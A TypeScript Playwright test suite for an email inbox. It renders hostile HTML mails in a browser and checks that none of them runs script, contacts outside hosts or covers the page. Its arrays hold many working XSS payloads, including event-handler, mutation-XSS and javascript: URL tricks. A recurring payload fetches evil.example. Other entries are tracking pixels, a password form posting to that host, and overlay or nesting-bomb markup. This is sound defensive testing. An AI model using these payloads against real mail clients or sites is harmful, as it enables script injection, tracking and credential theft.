import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { noBrowser, startChromium } from '../../support/chromium.ts'
import { inboxOf } from '../../support/inbox.ts'
import { openPage } from '../../support/page.ts'
import { type Screens, type SignedIn, startScreens } from '../../support/screens.ts'
import { startServer, type TestServer } from '../../support/server.ts'
import { until } from '../../support/until.ts'

// Mails that want to run, send, lie or cover, shown in a real browser.

const RUN = "(top.pwned=1,parent.pwned=1,window.pwned=1,alert(1),fetch('https://evil.example/'))"
const far = 'https://evil.example'

/** Each tries to run something. */
const RUNS = [
  `<script>${RUN}</script>`,
  `<script src="${far}/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><circle r=9></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror='${RUN}'/></svg>#x"></use></svg>`,
  `<body onload="${RUN}" onfocus="${RUN}">text</body>`,
  `<details open ontoggle="${RUN}">text</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<title><a title="</title><img src=x onerror=${RUN}>"></title>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<a href="java&#10;script:${RUN}" id=click>press</a>`,
  `<a href="&#1;javascript:${RUN}" id=click>press</a>`,
  `<a href="data:text/html,<script>${RUN}</script>" id=click>press</a>`,
  `<a href="blob:https://evil.example/1" id=click>press</a>`,
  `<div style="background:url(javascript:${RUN});width:expression(${RUN})">text</div>`,
  `<style>@import '${far}/a.css'; body{behavior:url(#x)}</style><p>text</p>`,
  `<b id="location"></b><a id="document" name="cookie">text</a><form id="x"><input name="parentNode"></form>`,
  `<base href="javascript:/a/-${RUN}//"><a href="#" id=click>press</a>`,
]

/** Each tries to tell somebody that it is read. */
const TELLS = [
  `<img src="${far}/pixel.png">`,
  `<img src="//evil.example/pixel.png">`,
  `<img srcset="${far}/1.png 1x, ${far}/2.png 2x" src="cid:none">`,
  `<picture><source srcset="${far}/p.png"><img src="${far}/p.png"></picture>`,
  `<div style="background-image:url(${far}/bg.png)">text</div>`,
  `<table background="${far}/bg.png"><tr><td background="${far}/td.png">text</td></tr></table>`,
  `<style>@font-face{font-family:x;src:url(${far}/f.woff)} *{font-family:x;cursor:url(${far}/c.cur),auto}</style><p>text</p>`,
  `<link rel="stylesheet" href="${far}/a.css"><link rel="prefetch" href="${far}/p"><link rel="dns-prefetch" href="${far}">`,
  `<video poster="${far}/v.png" src="${far}/v.mp4" autoplay></video><audio src="${far}/a.mp3" autoplay></audio>`,
  `<meta http-equiv="refresh" content="0;url=${far}/"><p>text</p>`,
  `<form action="${far}/" method="post"><input name="password" type="password"><button id="click">Go</button></form>`,
  `<iframe src="${far}/"></iframe><frameset><frame src="${far}/"></frameset><object data="${far}/o"></object>`,
  `<svg><image href="${far}/s.png"/><feImage href="${far}/f.png"/></svg>`,
  `<input type="image" src="${far}/i.png"><body background="${far}/b.png">text</body>`,
  `<a href="${far}/" ping="${far}/ping">text</a>`,
]

/** Each tries to lie over the page, or to be more than it can hold. */
const COVERS = [
  `<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>`,
  `<style>html,body{position:fixed;inset:0;height:9999px}</style><div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px">covered</div>`,
  `<div style="margin:-9000px;transform:scale(50)">covered</div>`,
  `<div style="height:100vh;width:400vw">wide</div>`,
  '<blockquote>'.repeat(10_000) + 'deep' + '</blockquote>'.repeat(10_000),
  `<table>${'<tr><td>cell</td></tr>'.repeat(20_000)}</table>`,
]

describe('a hostile mail', { skip: noBrowser, concurrency: false }, () => {
  let server: TestServer
  let screens: Screens
  let browser: Browser
  let inbox: ReturnType<typeof inboxOf>
  let ana: SignedIn
  let page: Page
  const [requests, said, dialogs]: [string[], string[], string[]] = [[], [], []]

  before(async () => {
    server = await startServer()
    server.advance(Date.now() - server.now()) // pages go by the clock of the server
    screens = await startScreens(server)
    browser = await startChromium()
    inbox = inboxOf(server)
    ana = await screens.signedIn('member')
    page = await openPage(browser, screens, ana, '/inbox')
    page.context().on('request', (request) => requests.push(request.url()))
    page.on('console', (message) => said.push(message.text()))
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
  })
  after(async () => {
    await browser?.close()
    await screens?.stop()
    await server?.stop()
  })

  /** Shows them in one conversation, and waits until their frames have loaded and everything they ask for has been asked for. */
  async function show(...mails: string[]): Promise<void> {
    for (const list of [requests, said, dialogs]) list.length = 0
    const given = (mail: string) => ({ body_html: `<p>Hello</p>${mail}`, body_text: null })
    const { conversation_id } = await inbox.say('inbound', undefined, given(mails[0] as string))
    for (const mail of mails.slice(1)) await inbox.say('inbound', conversation_id, given(mail))
    await page.goto(new URL(`/inbox?c=${conversation_id}`, screens.url).href)
    const shown = page.locator('.mail-frame')
    await until(async () => (await shown.count()) === mails.length)
    for (const frame of await shown.elementHandles()) await (await frame.contentFrame())?.waitForLoadState('load')
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))))
  }

  /** Presses what wants to be pressed. */
  async function press(): Promise<void> {
    for (const frame of page.frames())
      for (const link of await frame.locator('[id=click]').all())
        await link.click({ timeout: 500, noWaitAfter: true }).catch(() => undefined)
  }

  async function nothing(what: string): Promise<void> {
    const home = new URL(screens.url).origin
    const ran = await Promise.all(page.frames().map((frame) => frame.evaluate(() => 'pwned' in window)))
    assert.deepEqual([dialogs, ran.includes(true)], [[], false], what)
    const reports = said.filter((text) => /Content Security Policy|Refused to|pwned/i.test(text))
    assert.deepEqual(reports, [], what)
    assert.equal(new URL(page.url()).origin + new URL(page.url()).pathname, `${home}/inbox`, what)
    for (const frame of page.frames()) assert.ok(frame.url().startsWith(home), `${frame.url()}: ${what}`)
    const away = requests.filter((url) => !url.startsWith(home) && !url.startsWith('data:'))
    assert.deepEqual(away, [], what)
  }

  test('runs nothing, whatever it tries, and no policy has to stop it', async () => {
    await show(...RUNS)
    await press()
    await nothing('mails that run')
  })

  test('asks nobody for anything until its pictures are asked for', async () => {
    await show(...TELLS)
    await press()
    await nothing('mails that tell')
    // That it would be seen: what is asked for goes out.
    const held = page.locator('.held-line').getByRole('button', { name: 'Load' }).first()
    await held.click()
    await until(() => requests.some((url) => url.startsWith(far)))
  })

  test('paints nothing outside of its frame, and can be read to its end', async () => {
    for (const html of COVERS) {
      const what = html.slice(0, 80)
      await show(html)
      await nothing(what)
      const { width } = page.viewportSize() as { width: number }
      assert.ok(
        (await page.evaluate(() => document.documentElement.scrollWidth)) <= width,
        `the page is wider: ${what}`,
      )
      // The buttons of the page are what is hit at their place.
      for (const name of ['Close', 'Status']) {
        const button = page.getByRole('button', { name, exact: name === 'Close' }).first()
        if ((await button.count()) === 0) continue
        const isHit = await button.evaluate((element) => {
          const { x, y, width, height } = element.getBoundingClientRect()
          return element.contains(document.elementFromPoint(x + width / 2, y + height / 2))
        })
        assert.ok(isHit, `${name} is covered: ${what}`)
      }
      const end = page.locator('.msgs')
      await end.evaluate((element) => element.scrollTo(0, element.scrollHeight))
      const [thread, mail] = [
        await end.boundingBox(),
        await page.locator('.mail-frame, .msg .said').last().boundingBox(),
      ]
      if (thread && mail) assert.ok(mail.y + mail.height <= thread.y + thread.height + 80, `its end is cut: ${what}`)
    }
  })
})
